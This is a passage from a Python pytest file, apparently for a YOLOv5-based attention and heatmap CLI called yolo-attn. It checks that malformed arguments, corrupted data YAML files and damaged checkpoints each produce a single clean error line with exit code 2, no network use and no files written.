    'nc differs from the weights': (lambda ws: ['val', '--weights', 'ok.pt', '--data', data_yaml(
        ws, 'd6.yaml', SPLITS + 'names: [a, b, c, d, e, f, g]\n')], '(7 classes)'),
    'label with 4 columns': (lambda ws: ['val', '--weights', 'ok.pt', '--data', dataset_with(
        ws, 'four', label='0 0.5 0.5 0.1\n')], 'x_center y_center width height'),
    'data YAML is a list': (lambda ws: ['val', '--weights', 'ok.pt', '--data', write(ws, 'd7.yaml', '- a\n- b\n')],
                            'must be a mapping'),
    'weights is a folder': (lambda ws: ['val', '--weights', folder(ws, 'wdir.pt'), '--data', 'ds/shapes.yaml'],
                            'wdir.pt: is a folder, not a checkpoint file'),
    'device cuda:0, no GPU': (lambda ws: ['heatmap', *HM, '--device', 'cuda:0'], '--device cuda:0'),
    'device 7 heatmap-eval': (lambda ws: ['heatmap-eval', '--weights', 'ok.pt', '--data', 'ds/shapes.yaml', '--device',
                                          '7'], '--device 7'),
    'layers 999 heatmap-eval': (lambda ws: ['heatmap-eval', '--weights', 'ok.pt', '--data', 'ds/shapes.yaml',
                                            '--imgsz', '64', '--layers', '999'], '--layers [999]'),
    'layers foo': (lambda ws: ['heatmap', *HM, '--layers', 'foo'], "unknown role 'foo'"),
    'method nonsense': (lambda ws: ['heatmap', *HM, '--method', 'nonsense'], "invalid choice: 'nonsense'"),
    'method nonsense compare': (lambda ws: ['heatmap-compare', '--weights', 'ok.pt', 'ok.pt', '--source',
                                            'ds/images/val', '--method', 'nonsense'], 'unknown --method nonsense'),
    'export onnx imgsz 0': (lambda ws: ['export', '--weights', 'ok.pt', '--include', 'onnx', '--imgsz', '0'],
                            '--imgsz 0'),
    'val --task nonsense': (lambda ws: ['val', '--weights', 'ok.pt', '--data', 'ds/shapes.yaml', '--task', 'nonsense'],
                            '--task nonsense'),
    'seed -2': (lambda ws: ['train', '--data', 'ds/shapes.yaml', *TRAIN, '--seed', '-2'], '--seed -2'),
    'label-smoothing 5': (lambda ws: ['train', '--data', 'ds/shapes.yaml', *TRAIN, '--label-smoothing', '5'],
                          'between 0 and 1'),
    'freeze every layer': (lambda ws: ['train', '--data', 'ds/shapes.yaml', *TRAIN, '--freeze', '999'],
                           'nothing would train'),
    'hyp lr0 negative': (lambda ws: ['train', '--data', 'ds/shapes.yaml', *TRAIN, '--hyp', write(
        ws, 'h4.yaml', (STOCK.parent.parent / 'data' / 'hyps' / 'hyp.scratch-low.yaml').read_text().replace(
            'lr0: 0.01', 'lr0: -1'))], 'lr0: -1'),
    'data YAML with a key given twice': (lambda ws: ['val', '--weights', 'ok.pt', '--data', data_yaml(
        ws, 'd8.yaml', SPLITS + NAMES + 'val: images/train\n')], "key 'val' is given twice"),
    'binary file as data YAML': (lambda ws: ['val', '--weights', 'ok.pt', '--data', random_file(ws, 'bin.yaml')],
                                 'malformed YAML'),
    'heatmap-compare --max-images 0': (lambda ws: ['heatmap-compare', '--weights', 'ok.pt', 'ok.pt', '--source',
                                                   'ds/images/val', '--max-images', '0'], '--max-images >= 1'),
    'heatmap-eval --match-iou 2': (lambda ws: ['heatmap-eval', '--weights', 'ok.pt', '--data', 'ds/shapes.yaml',
                                               '--match-iou', '2'], 'at most 1'),
    'checkpoint names fewer than classes': (lambda ws: ['detect', '--weights', edited_pt(ws, 'names'), '--source',
                                                         'ds/images/val'], 'holds 1 names'),
    'checkpoint Detect stride empty': (lambda ws: ['heatmap', '--weights', edited_pt(ws, 'stride'), '--source',
                                                   'ds/images/val'], 'expected 3 positive values'),
    'checkpoint without its yaml, --cfg': (lambda ws: ['train', '--data', 'ds/shapes.yaml', '--weights',
                                                       edited_pt(ws, 'yaml'), '--cfg', 'yolov5n-cbam'], 'model.yaml'),
    'build --nc 0 (was ignored)': (lambda ws: ['build', '--cfg', 'yolov5n-se', '--nc', '0'], 'nc: 0'),
    'build --imgsz 0': (lambda ws: ['build', '--cfg', 'yolov5n-se', '--imgsz', '0'], '--imgsz 0'),
    'data --imgsz 99968': (lambda ws: ['data', 'shapes', '--out', 'huge', '--imgsz', '99968'], '--max-pixels'),
    'demo --epochs 0 (trained 20)': (lambda ws: ['demo', '--epochs', '0'], '--epochs 0'),
    'video that does not decode': (lambda ws: ['detect', '--weights', 'ok.pt', '--source', random_file(ws, 'v.mp4')],
                                   'gave an image or a video frame'),
}


def edited_pt(ws, what):
    """ok.pt with one piece of its metadata damaged: ``names`` (one name), ``stride`` (the Detect's
    empty) or ``yaml`` (removed)."""
    model = torch.load(ws / 'ok.pt', weights_only=False)['model']
    if what == 'names':
        model.names = ['only']
    elif what == 'stride':
        model.model[-1].stride = torch.tensor([])
    else:
        del model.yaml
    torch.save({'model': model, 'epoch': -1}, ws / f'edited-{what}.pt')
    return f'edited-{what}.pt'


def random_file(ws, name):
    (ws / name).write_bytes(np.random.default_rng(1).bytes(3000))
    return name


def absolute(ws, arg) -> str:
    """``arg``, or ``ws / arg`` where that names an input made in ``ws`` (the case runs elsewhere)."""
    arg = str(arg)
    try:
        return str(ws / arg) if arg and not arg.startswith('-') and (ws / arg).exists() else arg
    except OSError:  # e.g. a name too long for the filesystem
        return arg


@pytest.mark.parametrize('case', list(NEW_CASES))
def test_catalogue_case_is_one_line_exit_2_offline_and_writes_nothing(ws, monkeypatch, capsys, no_network, tmp_path,
                                                                     case):
    make, words = NEW_CASES[case]
    argv = [absolute(ws, a) for a in make(ws)]
    before = snapshot(ws, hashes=False)
    monkeypatch.chdir(tmp_path)  # an empty working folder: runs/ may appear there, nothing else
    try:
        rc = main(argv)
    except SystemExit as e:  # argparse's own refusals (usage, then one error line)
        rc = e.code
    err = capsys.readouterr().err
    lines = [s for s in err.replace('\r', '\n').splitlines() if s.startswith('yolo-attn')]
    assert rc == 2 and 'Traceback' not in err and len(lines) == 1, err[-2000:]
    assert lines[0].startswith(f'yolo-attn {argv[0]}: error: ') and words in lines[0], lines[0]
    assert err.strip().splitlines()[-1] == lines[0]  # the last thing said
    assert no_network == []
    assert snapshot(ws, hashes=False) == before
    assert all(p.parts[0] == 'runs' for p in (q.relative_to(tmp_path) for q in tmp_path.rglob('*'))), \
        sorted(tmp_path.rglob('*'))


@pytest.mark.parametrize('argv', [['heatmap', '--device', '7'], ['train', '--data', 'ds/shapes.yaml', '--epochs', '0']],
                         ids=['heatmap device 7', 'train epochs 0'])
def test_catalogue_from_the_console(ws, argv):
    """The console script itself: exit code 2 and one line, no traceback."""
    if argv[0] == 'heatmap':
        argv = argv[:1] + HM + argv[1:]
    else:
        argv = argv + TRAIN[:4]
    env = {**os.environ, 'PYTHONWARNINGS': 'ignore'}
    out = subprocess.run([sys.executable, '-m', 'yolo_attn', *argv], cwd=ws, env=env, capture_output=True, text=True,
                         timeout=300)
    lines = out.stderr.strip().splitlines()
    assert out.returncode == 2 and 'Traceback' not in out.stderr
    assert lines[-1].startswith(f'yolo-attn {argv[0]}: error:')
    assert sum(s.startswith('yolo-attn') for s in lines) == 1, out.stderr[-2000:]
